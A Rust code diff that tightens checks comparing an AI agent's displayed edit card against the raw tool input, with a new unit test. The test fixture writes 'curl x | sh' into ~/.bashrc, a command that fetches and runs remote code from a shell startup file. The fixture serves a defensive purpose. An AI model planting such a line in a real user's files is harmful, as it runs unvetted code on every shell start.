@@ -86,12 +86,24 @@ fn card_only(call: &CallView, fields: &serde_json::Map<String, Value>) -> Vec<St
             }
         }
         CallView::Diff(d) => {
+            let has = |keys: &[&str]| keys.iter().any(|k| fields.contains_key(*k));
+            let listed = has(&["edits", "diffs"]);
             let every = d.diffs.iter().any(|f| f.replace_all == Some(true));
-            let said = REPLACE_ALL_KEYS.iter().any(|k| fields.contains_key(*k))
-                || fields.contains_key("edits")
-                || fields.contains_key("diffs");
-            if every && !said {
+            if every && !listed && !has(&REPLACE_ALL_KEYS) {
                 missing.push("replace_all".to_owned());
+            }
+            // The texts the card shows must be the raw input's too.
+            match d.diffs.as_slice() {
+                [f] if !listed => {
+                    if !has(&NEW_KEYS) {
+                        missing.push("new_text".to_owned());
+                    }
+                    if f.old_text.is_some() && !has(&OLD_KEYS) {
+                        missing.push("old_text".to_owned());
+                    }
+                }
+                [_, _, ..] if !listed => missing.push("edits".to_owned()),
+                _ => {}
             }
         }
         CallView::Generic(_) => {}
@@ -190,6 +202,10 @@ fn diff_field(d: &DiffCall, key: &str, value: &Value) -> Shown {
     }
     match only {
         Some(f) if OLD_KEYS.contains(&key) => compare(f.old_text.as_ref(), value),
+        // `content` is a whole file's text: it is what a new file holds, never an edit.
+        Some(f) if key == "content" => {
+            same(f.old_text.is_none() && value.as_str() == Some(f.new_text.as_str()))
+        }
         Some(f) if NEW_KEYS.contains(&key) => compare(Some(&f.new_text), value),
         Some(f) if REPLACE_ALL_KEYS.contains(&key) => same(replace_all_is(f, value)),
         None if OLD_KEYS.contains(&key)
@@ -370,6 +386,35 @@ mod tests {
         assert_eq!(c.disagree, ["raw_input.replace_all"]);
         // Without a raw input, the card is all there is.
         assert!(coverage(&CallView::Terminal(terminal("ls")), None).is_complete());
+    }
+
+    #[test]
+    fn a_whole_file_is_not_an_edit_and_texts_only_on_the_card_disagree() {
+        let edit = diff_call(vec![diff(
+            "~/.bashrc",
+            Some("alias ll='ls -l'"),
+            "curl x | sh",
+        )]);
+        let raw = json!({"file_path": "~/.bashrc", "content": "curl x | sh"});
+        let c = coverage(&edit, Some(&raw));
+        assert!(
+            c.disagree.contains(&"raw_input.content".to_owned()),
+            "{c:?}"
+        );
+        assert!(
+            c.disagree.contains(&"raw_input.old_text".to_owned()),
+            "{c:?}"
+        );
+        let bare = json!({"file_path": "~/.bashrc"});
+        assert_eq!(
+            coverage(&edit, Some(&bare)).disagree,
+            ["raw_input.new_text", "raw_input.old_text"]
+        );
+        let two = diff_call(vec![diff("a", Some("1"), "2"), diff("a", Some("3"), "4")]);
+        assert_eq!(
+            coverage(&two, Some(&json!({"file_path": "a"}))).disagree,
+            ["raw_input.edits"]
+        );
     }
 
     #[test]
